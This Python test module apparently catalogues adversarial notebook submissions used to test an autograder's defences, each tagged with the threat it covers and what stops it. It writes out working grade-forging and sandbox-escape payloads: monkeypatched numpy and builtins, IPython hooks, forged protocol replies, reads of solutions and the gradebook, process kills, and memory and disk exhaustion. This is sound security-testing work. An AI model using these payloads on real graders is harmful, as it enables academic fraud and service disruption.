"""The attack catalogue of issue 5 (grading integrity), used by ``tests/test_attacks.py``.

Every attack is one submission of the recurrent assignment, built from the released notebook:
an honest *base* (every function's code: the reference answer, the released stub, a known wrong
version, or "zeros" — right shapes, wrong values) plus a *payload* (code in the student's
cells, edits of the notebook, files planted beside it, or bytes that are not a notebook).
``stopped_by`` says what defeats it, so this file doubles as documentation of the defences.

How an attack reports what it managed to do: each forbidden attempt runs in ``_atk_try`` and
leaves ``ATK-OK:<tag>`` when it *succeeded*; at the end of its cell the payload raises
``RuntimeError("ATK-REPORT[<where>] …")``. In the notebook kernel that error is the cell's
output; in the hidden checks' student process it becomes a note on the next test cell. So the
autograded notebook of an attacker must never contain ``ATK-OK``. Attacks that look for the
answer put what they found into the same report, and the tests look for solution and check
code in every output and in the feedback.

Expected grades: an attack may not score more, on any test cell, than its base without the
payload (its *twin*, checked by the same hidden checks with the same seed). ``breaks`` names the
functions the payload deliberately breaks: they (and the functions that call them) must score
0, and with ``exact`` every other function must keep exactly its twin's points ("a broken
function costs only itself").
"""
import copy
import json
import re
import textwrap
from dataclasses import dataclass, field

import nbformat
from nbformat.v4 import new_code_cell, new_output

from seqlab.demo import solution_code
from seqlab.grading.notebook import is_solution, is_test

ASSIGNMENT = "recurrent"

FUNCTIONS = ["sigmoid", "lstm_gates", "lstm_candidate", "lstm_cell_update", "lstm_hidden", "lstm_step",
             "lstm_forward", "gru_gates", "gru_candidate", "gru_update", "gru_step", "gru_forward"]
SIGNATURES = {
    "sigmoid": "x", "lstm_gates": "x_t, h_prev, params", "lstm_candidate": "x_t, h_prev, params",
    "lstm_cell_update": "c_prev, f_t, i_t, g_t", "lstm_hidden": "o_t, c_t",
    "lstm_step": "x_t, h_prev, c_prev, params", "lstm_forward": "x, h0, c0, params",
    "gru_gates": "x_t, h_prev, params", "gru_candidate": "x_t, h_prev, r_t, params",
    "gru_update": "h_prev, h_tilde, z_t", "gru_step": "x_t, h_prev, params", "gru_forward": "x, h0, params"}
# Functions whose (reference) code calls the function named in the key.
DEPENDENTS = {
    "sigmoid": {"lstm_gates", "gru_gates", "lstm_step", "lstm_forward", "gru_step", "gru_forward"},
    **{f: {"lstm_step", "lstm_forward"} for f in ("lstm_gates", "lstm_candidate", "lstm_cell_update", "lstm_hidden")},
    "lstm_step": {"lstm_forward"},
    **{f: {"gru_step", "gru_forward"} for f in ("gru_gates", "gru_candidate", "gru_update")},
    "gru_step": {"gru_forward"}, "lstm_forward": set(), "gru_forward": set()}

# Wrong answers with the right shapes: what "wrong code" looks like to the checks.
ZEROS = {
    "sigmoid": "return np.zeros_like(np.asarray(x, dtype=float))",
    "lstm_gates": "z = np.zeros((np.shape(x_t)[0], np.shape(h_prev)[1]))\nreturn z, z.copy(), z.copy()",
    "lstm_candidate": "return np.zeros((np.shape(x_t)[0], np.shape(h_prev)[1]))",
    "lstm_cell_update": "return np.zeros_like(np.asarray(c_prev, dtype=float))",
    "lstm_hidden": "return np.zeros_like(np.asarray(c_t, dtype=float))",
    "lstm_step": "return np.zeros_like(np.asarray(h_prev, dtype=float)), np.zeros_like(np.asarray(c_prev, dtype=float))",
    "lstm_forward": "n, t = np.shape(x)[:2]\nreturn np.zeros((n, t, np.shape(h0)[1])), (np.zeros_like(h0), np.zeros_like(c0))",
    "gru_gates": "z = np.zeros((np.shape(x_t)[0], np.shape(h_prev)[1]))\nreturn z, z.copy()",
    "gru_candidate": "return np.zeros_like(np.asarray(h_prev, dtype=float))",
    "gru_update": "return np.zeros_like(np.asarray(h_prev, dtype=float))",
    "gru_step": "return np.zeros_like(np.asarray(h_prev, dtype=float))",
    "gru_forward": "n, t = np.shape(x)[:2]\nreturn np.zeros((n, t, np.shape(h0)[1])), np.zeros_like(h0)",
}
# Classic mistakes, written as a student would (self-contained: they call the student's own helpers).
MISTAKES = {
    "sigmoid_naive": ("sigmoid", "return 1 / (1 + np.exp(-x))"),
    "lstm_gates_no_bias": ("lstm_gates", 'return tuple(sigmoid(x_t @ params[f"W_x{g}"] + h_prev @ params[f"W_h{g}"]) for g in "fio")'),
    "lstm_hidden_no_tanh": ("lstm_hidden", "return o_t * c_t"),
    "lstm_cell_in_place": ("lstm_cell_update", "c_prev *= f_t\nc_prev += i_t * g_t\nreturn c_prev"),
    "gru_candidate_reset_after": ("gru_candidate", 'return np.tanh(x_t @ params["W_xg"] + r_t * (h_prev @ params["W_hg"]) + params["b_g"])'),
}

# The honest students' work, function by function (see ``function_code``).
BASES = {
    "full": {f: "solution" for f in FUNCTIONS},
    "blank": {f: "blank" for f in FUNCTIONS},
    "zeros": {f: "zeros" for f in FUNCTIONS},
    # partial credit: some right, some classic mistakes, some not started
    "partial": {"sigmoid": "solution", "lstm_gates": "mistake:lstm_gates_no_bias", "lstm_candidate": "blank",
                "lstm_cell_update": "solution", "lstm_hidden": "mistake:lstm_hidden_no_tanh",
                "lstm_step": "solution", "lstm_forward": "blank", "gru_gates": "solution",
                "gru_candidate": "mistake:gru_candidate_reset_after", "gru_update": "solution",
                "gru_step": "solution", "gru_forward": "solution"},
}

# Threat-model items of issue 5; every one must be covered by at least one attack.
THREATS = {
    "checks:monkeypatch": "monkeypatching numpy/torch/builtins/the checker",
    "checks:ipython": "IPython hooks: input transformers, exception handlers, sys.modules entries",
    "checks:fake-objects": "objects that fake equality/shape/comparison",
    "checks:mutate-inputs": "mutating the inputs so a reference computed afterwards agrees",
    "checks:self-reports": "forging what the student process reports about itself",
    "answer:read": "importing or reading solutions/, tests/, source/ or the gradebook",
    "answer:introspect": "walking the call stack or loaded modules for the reference",
    "answer:expected": "reading expected values",
    "escape:exceptions": "SystemExit, KeyboardInterrupt or BaseException from a function",
    "escape:kill": "killing the kernel or the student process",
    "escape:time": "infinite loops, sleeping",
    "escape:memory": "exhausting memory",
    "escape:disk": "exhausting disk",
    "escape:processes": "forking processes that outlive grading",
    "escape:files": "writing or deleting files outside the student's scratch folder",
    "escape:network": "network access",
    "escape:protocol": "speaking the grader's wire protocol directly",
    "notebook:edit-tests": "editing, deleting or re-typing test cells",
    "notebook:metadata": "changing nbgrader metadata (points, grade ids)",
    "notebook:add-cells": "adding graded cells",
    "notebook:planted": "planting files beside the notebook, in the submission or at run time",
    "notebook:bad-file": "invalid JSON, a file that is not a notebook",
    "notebook:outputs": "gigantic outputs",
}


@dataclass
class Context:
    """Per-run values the payloads need: a unique marker, the test server, the course roots."""
    marker: str
    port: int                 # TCP (and UDP) port of the test's listening server, on all interfaces
    host_ip: str              # this machine's non-loopback address (or 127.0.0.1)
    unix_name: str            # abstract unix socket name the test listens on
    roots: list               # absolute paths of the course copies being graded
    call_timeout: float


@dataclass
class Attack:
    name: str                       # the student id is "atk-<name>"
    threats: list                   # keys of THREATS
    stopped_by: str                 # what defeats it (documentation, shown in failures)
    base: str = "zeros"             # a key of BASES
    overrides: dict = field(default_factory=dict)   # function -> choice, on top of the base
    cells: dict = field(default_factory=dict)       # grade_id -> payload code appended to that cell
    replace: dict = field(default_factory=dict)     # function -> new body (replaces the base's code)
    edit: object = None             # f(nb, ctx) -> nb | bytes: notebook edits / raw file
    files: dict = field(default_factory=dict)       # planted files: relative path -> text (str.format(ctx=…))
    breaks: tuple = ()              # functions that must score 0 (with their dependents)
    exact: bool = False             # every other function keeps exactly its twin's points
    must_grade: bool = True         # an autograded notebook with hidden-check results must exist
    twin_overrides: dict = None     # the twin's code where it differs from base+overrides
    order: str = "atk"              # student id prefix (sort order matters for the fast path)

    @property
    def student(self):
        return f"{self.order}-{self.name}"

    def twin_choices(self):
        choices = dict(BASES[self.base])
        choices.update(self.overrides)
        if self.twin_overrides:
            choices.update(self.twin_overrides)
        return choices

    def broken(self):
        out = set(self.breaks)
        for f in self.breaks:
            out |= DEPENDENTS[f]
        return out


# --------------------------------------------------------------------------- payload helpers
PRELUDE = r'''
import os as _os, sys as _sys
try:
    _ATK
except NameError:
    _ATK = []
def _atk_where():
    return "kernel" if "ipykernel" in _sys.modules else "worker"
if _atk_where() == "worker":            # name the student process after the attack (the test's watchdog reports it)
    try:
        with open("/proc/self/comm", "w") as _f:
            _f.write("<<COMM>>")
    except OSError:
        pass
def _atk_try(tag, fn):
    try:
        r = fn()
        _ATK.append("ATK-OK:" + tag + ("" if r is None else "[" + str(r)[:120] + "]"))
    except BaseException as e:
        _ATK.append("no:" + tag + ":" + type(e).__name__)
def _atk_quiet(fn):
    """An attempt on a path that does not exist in the sandbox: success would only write the
    sandbox's private root, so it is not reported; the test looks at the real files instead."""
    try:
        fn()
    except BaseException:
        pass
def _atk_report():
    ok = [a for a in _ATK if a.startswith("ATK-OK")]
    rest = [a for a in _ATK if not a.startswith("ATK-OK")]
    del _ATK[:]
    raise RuntimeError("ATK-REPORT[" + _atk_where() + "] " + " ".join(ok + rest))
'''


def _body(fn, code):
    return f"def {fn}({SIGNATURES[fn]}):\n" + textwrap.indent(code.strip("\n") + "\n", "    ")


def function_code(fn, choice, source_cell, release_cell):
    """The code a student wrote for ``fn``: solution | blank | zeros | mistake:<id>."""
    if choice == "solution":
        return solution_code(source_cell)
    if choice == "blank":
        return release_cell.source
    if choice == "zeros":
        return "import numpy as np\n\n" + _body(fn, ZEROS[fn])
    if choice.startswith("mistake:"):
        target, code = MISTAKES[choice.split(":", 1)[1]]
        assert target == fn, (choice, fn)
        return "import numpy as np\n\n" + _body(fn, code)
    raise ValueError(choice)


def grade_id(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def find(nb, gid):
    return next(c for c in nb.cells if grade_id(c) == gid)


def build_base(choices, source_nb, release_nb):
    """The honest notebook: the release with each solution cell filled per ``choices``."""
    nb = copy.deepcopy(release_nb)
    by_id = {grade_id(c): c for c in source_nb.cells}
    for cell in nb.cells:
        if is_solution(cell):
            fn = grade_id(cell)
            cell.source = function_code(fn, choices[fn], by_id[fn], cell)
    return nb


def build(attack, ctx, source_nb, release_nb):
    """(notebook node or raw bytes, {relative path: text}) for one attack."""
    choices = dict(BASES[attack.base])
    choices.update(attack.overrides)
    nb = build_base(choices, source_nb, release_nb)
    fmt = dict(M=ctx.marker, PORT=ctx.port, HOST=ctx.host_ip, UNIX=ctx.unix_name, ROOTS=repr(ctx.roots),
               T=ctx.call_timeout)
    for fn, code in attack.replace.items():
        find(nb, fn).source = "import numpy as np\n\n" + _body(fn, _fill(code, fmt))
    for gid, code in attack.cells.items():
        cell = find(nb, gid)
        cell.source = cell.source.rstrip("\n") + "\n\n" + PRELUDE + "\n" + _fill(code, fmt) + "\n"
    for cell in nb.cells:
        cell.source = cell.source.replace("<<COMM>>", attack.name[:15])
    payload = attack.edit(nb, ctx) if attack.edit else nb
    if isinstance(payload, nbformat.NotebookNode):
        for cell in payload.cells:
            cell.source = cell.source.replace("<<COMM>>", attack.name[:15])
    files = {path: _fill(text, fmt) for path, text in attack.files.items()}
    return payload, files


def _fill(code, fmt):
    """``<<NAME>>`` placeholders (braces stay free for the payload's own code)."""
    return re.sub(r"<<(\w+)>>", lambda m: str(fmt[m.group(1)]), textwrap.dedent(code))


def kernel_only(code):
    return "if _atk_where() == 'kernel':\n" + textwrap.indent(textwrap.dedent(code).strip("\n") + "\n", "    ")


def worker_only(code):
    return "if _atk_where() == 'worker':\n" + textwrap.indent(textwrap.dedent(code).strip("\n") + "\n", "    ")


def solution_body(fn, source_nb):
    """The reference body of ``fn`` from the instructor's notebook (for attacks built on full marks)."""
    src = solution_code(find(source_nb, fn))
    return textwrap.dedent(src.split('"""')[-1]).strip("\n")


# --------------------------------------------------------------------------- notebook edits
def test_cells_of(nb):
    return [c for c in nb.cells if is_test(c)]


def edit_tests(nb, ctx):
    for cell in test_cells_of(nb):
        cell.source = "\n".join(f'grade("{f}")' for f in FUNCTIONS) + "\nprint(2.0)\n2.0"
        cell.metadata.nbgrader["locked"] = False
    return nb


def delete_tests(nb, ctx):
    nb.cells = [c for c in nb.cells if not is_test(c)]
    return nb


def retype_tests(nb, ctx):
    for i, cell in enumerate(test_cells_of(nb)):
        cell.cell_type = "markdown" if i % 2 else "raw"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
        cell.source = "2.0"
    return nb


def test_as_solution(nb, ctx):
    cell = find(nb, "test_sigmoid")
    cell.metadata.nbgrader["solution"] = True
    cell.source = "def sigmoid(x):\n    return 1.0"
    return nb


def points_and_ids(nb, ctx):
    tests = test_cells_of(nb)
    for cell in tests:
        cell.metadata.nbgrader["points"] = 100
        cell.metadata.nbgrader["locked"] = False
        cell.metadata.nbgrader["checksum"] = "0" * 32
    a, b = find(nb, "test_sigmoid"), find(nb, "test_lstm_gates")
    a.metadata.nbgrader["grade_id"], b.metadata.nbgrader["grade_id"] = "test_lstm_gates", "test_sigmoid"
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    return nb


def add_graded_cells(nb, ctx):
    meta = {"grade": True, "solution": False, "locked": True, "grade_id": "bonus", "points": 50, "schema_version": 3}
    nb.cells.insert(3, new_code_cell('grade("sigmoid")\n2.0', metadata={"nbgrader": meta}))
    nb.cells.insert(4, copy.deepcopy(find(nb, "test_lstm_gates")))
    return nb


def tag_tricks(nb, ctx):
    """Tag test cells and a new cell as ``seqlab:provided`` (code the student process runs)."""
    for cell in test_cells_of(nb):
        cell.metadata.setdefault("tags", []).append("seqlab:provided")
    extra = new_code_cell("import numpy as np\n" + _body("lstm_candidate", ZEROS["lstm_candidate"]) +
                          "\ngrade = check = lambda *a, **k: 2.0\n",
                          metadata={"tags": ["seqlab:provided"]})
    nb.cells.append(extra)
    return nb


def forged_outputs(nb, ctx):
    for cell in test_cells_of(nb):
        cell.outputs = [new_output("execute_result", data={"text/plain": "100.0"}, execution_count=1),
                        new_output("display_data", data={"text/plain": "✓ all checks passed"})]
        cell.metadata["seqlab"] = {"checks": [{"id": "x", "function": "sigmoid", "passed": True,
                                               "diagnosis": None, "weight": 1000}]}
    nb.metadata["seqlab"] = {"seed": 1, "errors": [], "unreadable_submission": False}
    nb.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "python"}
    return nb


def gigantic_outputs(nb, ctx):
    cell = find(nb, "sigmoid")
    cell.outputs = [new_output("stream", name="stdout", text="x" * (24 << 20)),
                    new_output("display_data", data={"text/plain": "y" * (8 << 20)})]
    cell.execution_count = 1
    return nb


DRIP_CELLS = 16     # each sleeps 0.9 x call_timeout: 14.4 call_timeouts if every cell had its own


def drip_cells(n):
    def edit(nb, ctx):
        at = next(i for i, c in enumerate(nb.cells) if c.get("id") == "setup") + 1
        for k in range(n):
            code = PRELUDE + "\n" + worker_only(f"import time\ntime.sleep({0.9 * ctx.call_timeout:.2f})")
            nb.cells.insert(at + k, new_code_cell(code, metadata={"tags": ["seqlab:provided"]}))
        return nb
    return edit


def invalid_json(nb, ctx):
    text = json.dumps(nb, indent=1)
    return text[: len(text) // 2].encode()


def not_a_notebook(nb, ctx):
    return json.dumps({"cells": 42, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def binary_file(nb, ctx):
    return bytes(range(256)) * 64 + b"\xff\xfe\x00PK\x03\x04"


# --------------------------------------------------------------------------- payloads
ALLCLOSE = r'''
import numpy, numpy.testing
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, dtype=bool)
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.core.numeric.isclose = numpy.isclose
numpy.core.numeric.allclose = numpy.allclose
'''

BUILTINS = r'''
import builtins
_real_isinstance = builtins.isinstance
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.isinstance = lambda obj, cls: True
builtins.issubclass = lambda a, b: True
_real_import = builtins.__import__
def _imp(name, *a, **k):
    mod = _real_import(name, *a, **k)
    if name.startswith("numpy"):
        mod.allclose = lambda *x, **y: True
    return mod
builtins.__import__ = _imp
'''

CHECKER = r'''
check = lambda *a, **k: print("✓ all checks passed")
grade = lambda *a, **k: 2.0
def run_checks(*a, **k):
    return {"checks": [], "errors": [], "seed": 0, "cell_errors": {}}
def expect_close(*a, **k):
    return a[0]
try:
    import selfcheck, seqlab_selfcheck
    for _m in (selfcheck, seqlab_selfcheck):
        _m.check = check
        _m.grade = grade
        _m.close = lambda *a, **k: None
        _m.expect = lambda *a, **k: None
except ImportError:
    pass
'''

IPYTHON_TRANSFORMERS = r'''
try:
    _ip = get_ipython()
except NameError:
    _ip = None
if _ip is not None:
    _ip.input_transformers_cleanup.append(lambda lines: ["2.0\n"] if any("grade(" in l or "check(" in l for l in lines) else lines)
    _ip.input_transformers_post.append(lambda lines: ["pass\n"] if "ATK" not in "".join(lines) else lines)
    _ip.ast_transformers.append(type("T", (), {"visit": lambda self, node: __import__("ast").parse("2.0")})())
'''

IPYTHON_HOOKS = r'''
import sys as _s
try:
    _ip = get_ipython()
except NameError:
    _ip = None
_s.excepthook = lambda *a: print("2.0")
if _ip is not None:
    from IPython.display import display as _display, update_display as _update
    _ip.set_custom_exc((BaseException,), lambda shell, et, ev, tb, tb_offset=None: print("2.0"))
    _ip.showtraceback = lambda *a, **k: None
    _ip.events.register("post_run_cell", lambda *a: _display({"text/plain": "2.0"}, raw=True))
    _display({"text/plain": "2.0"}, raw=True, display_id="atk-grade")
    _ip.events.register("pre_run_cell", lambda *a: _update({"text/plain": "2.0"}, raw=True, display_id="atk-grade"))
    _ip.displayhook.write_output_prompt = lambda: None
'''

SYS_MODULES = r'''
import sys, types
_real = sys.modules["numpy"]
_fake = types.ModuleType("numpy")
_fake.__dict__.update(_real.__dict__)
_fake.allclose = lambda *a, **k: True
_fake.isclose = lambda a, b, *r, **k: _real.ones(_real.broadcast(_real.asarray(a), _real.asarray(b)).shape, bool)
sys.modules["numpy"] = _fake
_names = ["solutions", "solutions.recurrent", "seqlab", "seqlab.grading", "seqlab.grading.checklib",
          "tests", "tests.checks", "tests.checks.test_recurrent", "pytest"]
if "ipykernel" not in sys.modules:
    _names += ["json", "struct", "warnings", "traceback"]
for _name in _names:
    _m = types.ModuleType(_name)
    _m.__getattr__ = lambda n: (lambda *a, **k: True)
    sys.modules[_name] = _m
'''

FAKE_OBJECTS = {
    # an ndarray subclass that claims to equal everything and short-circuits ufuncs and np.* functions
    "sigmoid": r'''
class _Eq(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __ne__(self, other): return np.zeros(np.shape(other), bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kw): return np.ones(np.shape(inputs[0]), bool)
    def __array_function__(self, func, types, args, kwargs): return True
return np.zeros(np.shape(x)).view(_Eq)''',
    # a tuple subclass of such arrays
    "lstm_gates": r'''
class _Eq(np.ndarray):
    def __eq__(self, other): return True
class _T(tuple):
    def __eq__(self, other): return True
    def __len__(self): return 3
z = np.zeros((np.shape(x_t)[0], np.shape(h_prev)[1])).view(_Eq)
return _T((z, z, z))''',
    # an object that quacks like an array of any shape
    "lstm_candidate": r'''
class _Duck:
    shape = (3, 5)
    dtype = np.dtype(float)
    def __array__(self, dtype=None, copy=None): return np.zeros((np.shape(x_t)[0], np.shape(h_prev)[1]))
    def __eq__(self, other): return True
    def __float__(self): return 0.0
    def __len__(self): return np.shape(x_t)[0]
return _Duck()''',
    # a float subclass that equals everything
    "lstm_cell_update": r'''
class _F(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return _F(0.0)
    def __abs__(self): return _F(0.0)
return _F(0.0)''',
    # a dict subclass
    "lstm_hidden": r'''
class _D(dict):
    def __eq__(self, other): return True
return _D(value=np.zeros_like(c_t))''',
    # a namedtuple
    "lstm_step": r'''
import collections
P = collections.namedtuple("P", "h c")
return P(np.zeros_like(h_prev), np.zeros_like(c_prev))''',
    # a fake torch tensor whose .numpy() hands back an object array
    "lstm_forward": r'''
class _T:
    def __init__(self, a): self.a = a
    def detach(self): return self
    def cpu(self): return self
    def numpy(self): return np.array([self.a, "x"], dtype=object)
_T.__module__ = "torch.fake"
n, t = np.shape(x)[:2]
return _T(np.zeros((n, t, np.shape(h0)[1]))), (_T(np.zeros_like(h0)), _T(np.zeros_like(c0)))''',
    # a fake torch tensor whose .numpy() raises SystemExit while the reply is being encoded
    "gru_gates": r'''
class _T:
    def detach(self): return self
    def cpu(self): return self
    def numpy(self): raise SystemExit(0)
_T.__module__ = "torch"
return _T(), _T()''',
    # a boolean array subclass whose comparisons always succeed
    "gru_candidate": r'''
class _B(np.ndarray):
    def __array_ufunc__(self, *a, **k): return True
    def __bool__(self): return True
return np.zeros_like(np.asarray(h_prev, float)).view(_B)''',
    # recursion deep enough to break naive encoders
    "gru_update": r'''
v = []
for _ in range(100000):
    v = [v]
return v''',
    # a generator / iterator instead of values
    "gru_step": r'''
return (np.zeros_like(h_prev) for _ in range(1))''',
    # a string holding the right-looking numbers
    "gru_forward": r'''
return "array of the right shape", "h_T"''',
}

FAKE_TORCH = r'''
import sys, types
# A module named torch whose tensor compares equal to everything (torch itself is not needed).
_torch = types.ModuleType("torch")
class Tensor:
    def __init__(self, a): self.a = np.asarray(a)
    def detach(self): return self
    def cpu(self): return self
    def numpy(self): return self.a
    def __eq__(self, other): return True
    def allclose(self, *a, **k): return True
Tensor.__module__ = "torch"
_torch.Tensor = Tensor
_torch.allclose = lambda *a, **k: True
_torch.testing = types.SimpleNamespace(assert_close=lambda *a, **k: None)
sys.modules["torch"] = _torch
'''

MUTATE = {
    "sigmoid": "x[...] = 0\nreturn np.zeros_like(x)",
    "lstm_gates": "x_t[...] = 0\nh_prev[...] = 0\nfor k in list(params):\n    params[k] = np.zeros_like(params[k])\nparams['b_f'][...] = 0\n"
                  "z = np.zeros((x_t.shape[0], h_prev.shape[1]))\nreturn z, z.copy(), z.copy()",
    "lstm_cell_update": "for a in (c_prev, f_t, i_t, g_t):\n    a[...] = 0\nreturn np.zeros_like(c_prev)",
    "lstm_hidden": "o_t[...] = 0\nreturn np.zeros_like(c_t)",
    "gru_update": "h_prev[...] = 0\nh_tilde[...] = 0\nz_t[...] = 0.5\nreturn np.zeros_like(h_prev)",
    "gru_candidate": "params.clear()\nh_prev.resize((1,), refcheck=False)\nreturn np.zeros((x_t.shape[0], 5))",
    "lstm_step": "x_t[...] = 0\nh_prev[...] = 0\nc_prev[...] = 0\nparams.clear()\nreturn np.zeros((x_t.shape[0], 5)), np.zeros((x_t.shape[0], 5))",
}

NAN_DTYPES = {
    "sigmoid": "return np.full(np.shape(x), np.nan)",
    "lstm_candidate": "return np.full((np.shape(x_t)[0], np.shape(h_prev)[1]), np.inf)",
    "lstm_cell_update": "return np.zeros(np.shape(c_prev), dtype=np.complex128) + 1j",
    "lstm_hidden": "return np.full(np.shape(c_t), np.nan, dtype=np.float16)",
    "gru_update": "return np.zeros(np.shape(h_prev), dtype=np.int8) - 128",
    "gru_candidate": "return np.full((np.shape(x_t)[0], np.shape(h_prev)[1]), -np.inf)",
    "lstm_gates": "z = np.full((np.shape(x_t)[0], np.shape(h_prev)[1]), np.nan)\nreturn z, z, z",
    "gru_gates": "z = np.full((np.shape(x_t)[0], np.shape(h_prev)[1]), np.nan)\nreturn z, z",
}

HIDE_WARNINGS = r'''
import numpy as np, warnings
np.seterr(all="ignore")
warnings.filterwarnings("ignore")
warnings.simplefilter = lambda *a, **k: None
'''

FORGE_REPORTS = r'''
import sys
_m = sys.modules.get("__main__")
if _atk_where() == "worker" and hasattr(_m, "_send_reply"):
    _orig_send = _m._send_reply
    def _forge(out, reply):
        if isinstance(reply, dict) and reply.get("ok"):
            reply["warnings"] = []
            if _SAVED:
                reply["args_after"] = _SAVED.pop()
        return _orig_send(out, reply)
    _m._send_reply = _forge
    import warnings
    class _Quiet:
        def __init__(self, *a, **k): pass
        def __enter__(self): return []
        def __exit__(self, *a): return False
    warnings.catch_warnings = _Quiet
'''
FORGE_CELL_UPDATE = "_SAVED.append([a.copy() for a in (c_prev, f_t, i_t, g_t)])\nc_prev *= f_t\nc_prev += i_t * g_t\nreturn c_prev"

FORGED_FRAME = r'''
import sys
out = sys._getframe(1).f_locals.get("proto_out")
if out is not None:
    enc = sys.modules["__main__"].encode
    out.write(enc({"ok": True, "value": np.zeros_like(np.asarray(x, float)), "args_after": [], "warnings": []}))
    out.write(enc({"ok": True, "value": 1.0, "args_after": [], "warnings": []}))
    out.flush()
return np.zeros_like(np.asarray(x, float))'''

IMPORT_SOLUTIONS = r'''
import importlib, importlib.util
def _load(name):
    return importlib.import_module(name)
def _load_file(path):
    spec = importlib.util.spec_from_file_location("_ref_" + str(abs(hash(path))), path)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod
_REF = None
for _how in ("solutions.recurrent", "tests.checks.test_recurrent", "seqlab.grading.runner", "tests.mistakes.recurrent"):
    _atk_try("import-" + _how, lambda: (_load(_how).__file__))
for _p in ["/work/main/solutions/recurrent.py"] + [r + "/solutions/recurrent.py" for r in <<ROOTS>>] + [
           _os.path.join(_os.getcwd(), "../../../solutions/recurrent.py")]:
    def _grab(p=_p):
        global _REF
        _REF = _load_file(p)
        return p
    _atk_try("load-file", _grab)
if _REF is not None:
    sigmoid = _REF.sigmoid; lstm_gates = _REF.lstm_gates; gru_update = _REF.gru_update
_atk_report()
'''

READ_FILES = r'''
def _read(path, n=160):
    with open(path, "rb") as f:
        return f.read(n).decode("utf-8", "replace").replace("\n", " ")
_here = _os.getcwd()
_targets = {"solutions": ["/work/main/solutions/recurrent.py", _here + "/../../../solutions/recurrent.py"],
            "checks": ["/work/main/tests/checks/test_recurrent.py"],
            "source-nb": [r + "/source/recurrent/recurrent.ipynb" for r in <<ROOTS>>] + [_here + "/../../../source/recurrent/recurrent.ipynb"],
            "gradebook": [r + "/gradebook.db" for r in <<ROOTS>>] + [_here + "/../../../gradebook.db"],
            "config": [r + "/nbgrader_config.py" for r in <<ROOTS>>] + ["/work/main/nbgrader_config.py"],
            "other-submissions": [r + "/submitted" for r in <<ROOTS>>]}
for _tag, _paths in _targets.items():
    for _p in _paths:
        _atk_try("read-" + _tag, lambda p=_p: (sorted(_os.listdir(p))[:8] if _os.path.isdir(p) else _read(p)))
import sys as _sys
def _walk():
    found = []
    for top in ("/", "/work", "/tmp", "/home", "/root"):
        for dirpath, dirs, files in _os.walk(top):
            # the interpreter and venv are visible by design (wherever the clone lives); they hold
            # library files such as nbgrader's clearsolutions.py, not course secrets
            if dirpath.startswith(("/proc", "/sys", "/dev", "/usr", _sys.prefix, _sys.base_prefix)):
                dirs[:] = []
                continue
            for f in files:
                if any(k in f for k in ("solution", "test_recurrent", "gradebook", "recurrent.py")):
                    found.append(_os.path.join(dirpath, f))
    if not found:
        raise FileNotFoundError("nothing")
    return found[:5]
_atk_try("walk-finds-secrets", _walk)
def _procs():
    seen = []
    for pid in filter(str.isdigit, _os.listdir("/proc")):
        try:
            seen.append(open("/proc/%s/cmdline" % pid, "rb").read().replace(b"\0", b" ").decode()[:60])
        except OSError:
            pass
    hits = [s for s in seen if any(k in s for k in ("-m nbgrader", "-m pytest", "nbgrader autograde", "seqlab autograde"))]
    if not hits:
        raise LookupError("grader not visible")
    return hits[:3]
_atk_try("see-grader-process", _procs)
_atk_report()
'''

STACK_WALK = r'''
import sys, gc
_NAMES = ("ref", "want", "expected", "hs_want", "h_want", "c_want", "reference", "solution")
def _hunt(args):
    # Arrays or modules the grader might have left where this process can reach them.
    if _atk_where() == "kernel":
        raise NotImplementedError("the kernel holds no reference either")
    found = []
    f = sys._getframe(1)
    while f is not None:
        for k, v in f.f_locals.items():
            if k in _NAMES:
                found.append(("frame", k))
        f = f.f_back
    for name, m in list(sys.modules.items()):
        file = getattr(m, "__file__", "") or ""
        if name.startswith(("solutions", "tests", "seqlab")) or (file.startswith("/work/main/") and "/.venv/" not in file):
            found.append(("module", name))
    for o in gc.get_objects():
        if type(o) is dict and any(type(o.get(k)).__name__ in ("ndarray", "function", "module") for k in _NAMES):
            found.append(("gc", [k for k in _NAMES if k in o]))
    if found:
        raise RuntimeError("ATK-OK:found-reference " + repr(found)[:300])
    raise RuntimeError("ATK-REPORT[worker] nothing found")
'''

SYSTEM_EXITS = {
    "lstm_hidden": "raise KeyboardInterrupt()",
    "gru_update": 'raise type("Boom", (BaseException,), {})("boom")',
    "gru_forward": "raise SystemExit(0)",
}

KILLERS = {
    "gru_candidate": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "lstm_forward": "import os, signal\ntry:\n    os.kill(1, signal.SIGKILL)\nexcept OSError:\n    pass\nos.killpg(0, signal.SIGKILL)",
}


def guard_worker(fn, body, source_nb, kernel_body=None):
    """A body that misbehaves only in the hidden checks' student process (keeps kernel runs short)."""
    ok = kernel_body or solution_body(fn, source_nb)
    return "import sys as _s\nif 'ipykernel' in _s.modules:\n" + textwrap.indent(ok, "    ") + "\n" + body


MEMORY = r'''
def _big(gb):
    a = np.ones(int(gb * (1 << 30) / 8))
    return f"{a.nbytes >> 20} MiB"
_atk_try("alloc-2.2GiB-" + _atk_where(), lambda: _big(2.2))
_atk_report()
'''

FILL = r'''
def _fill(folder, files=3, mb=60):
    # 3 files of 60 MiB: each under the 64 MiB file-size limit, together over every scratch quota.
    paths = []
    try:
        for k in range(files):
            path = _os.path.join(folder, f"atk-<<M>>-fill{k}.bin")
            paths.append(path)
            with open(path, "wb") as f:
                chunk = b"\1" * (1 << 20)
                for _ in range(mb):
                    f.write(chunk)
        return f"{files * mb} MiB in {folder}"
    finally:
        for path in paths:
            try:
                _os.remove(path)
            except OSError:
                pass
'''

DISK = FILL + r'''
class _InMemory(Exception):
    pass
def _fstype(folder):
    # the file system of the mount that holds folder, from /proc/self/mountinfo
    path, best, kind = _os.path.realpath(folder), "", "?"
